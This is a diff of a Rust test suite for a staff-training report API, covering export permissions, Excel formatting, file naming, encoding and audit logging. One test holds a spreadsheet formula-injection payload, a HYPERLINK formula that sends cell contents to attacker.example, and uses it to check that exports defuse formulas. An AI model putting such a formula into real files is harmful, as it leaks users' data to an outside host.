@@ -7,7 +7,6 @@ use http::StatusCode;
 use machiaruki::{db::DbError, on};
 use serde_json::{Value, json};
 
-use super::looked;
 use crate::support::{Caller, Reply, Ward};
 
 const LISTS: [&str; 3] = ["/api/training/report", "/api/training/people", "/api/training/exemptions"];
@@ -57,7 +56,7 @@ async fn asked(caller: &Caller, reason: &str) {
 #[tokio::test]
 async fn files_are_for_those_whom_the_lists_are_for() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     for (persona, may) in [
         ("staff", [false, false, false]),
         ("trainer", [false, false, false]),
@@ -92,7 +91,7 @@ async fn files_are_for_those_whom_the_lists_are_for() {
 #[tokio::test]
 async fn a_file_says_and_hides_what_the_list_does() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     let mut hidden = 0;
     for persona in ["manager", "hr"] {
         let caller = ward.persona(persona).await;
@@ -147,7 +146,7 @@ async fn a_file_says_and_hides_what_the_list_does() {
 #[tokio::test]
 async fn numbers_and_days_are_numbers_and_days_in_excel() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     let hr = ward.persona("hr").await;
     let report = hr.json("/api/training/report?by=month").await;
     let table = workbook(&hr.get("/api/training/report/export/xlsx?by=month").await.ok());
@@ -167,7 +166,7 @@ async fn numbers_and_days_are_numbers_and_days_in_excel() {
 #[tokio::test]
 async fn files_are_called_by_their_year_and_say_it_in_the_readers_language() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     let hr = ward.persona("hr").await;
     let reply = hr.get("/api/training/report/export/xlsx").await.ok();
     let name = reply.header("content-disposition");
@@ -196,7 +195,7 @@ async fn files_are_called_by_their_year_and_say_it_in_the_readers_language() {
 #[tokio::test]
 async fn what_somebody_wrote_becomes_no_formula() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     let (staff, trainer) = (ward.persona("staff").await, ward.persona("trainer").await);
     let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"見る\")";
     asked(&staff, formula).await;
@@ -216,7 +215,7 @@ async fn what_somebody_wrote_becomes_no_formula() {
 #[tokio::test]
 async fn a_name_that_cp932_lacks_is_named_and_not_replaced() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     let hr = ward.persona("hr").await;
     execute(
         &ward,
@@ -242,7 +241,7 @@ async fn a_name_that_cp932_lacks_is_named_and_not_replaced() {
 #[tokio::test]
 async fn names_in_a_file_are_in_the_audit_log() {
     let ward = Ward::demo().await;
-    looked(&ward).await;
+    ward.looked().await;
     let (hr, admin) = (ward.persona("hr").await, ward.persona("admin").await);
     let entries =
         async || admin.json("/api/audit?action=read_completion").await["entries"].as_array().unwrap().clone();
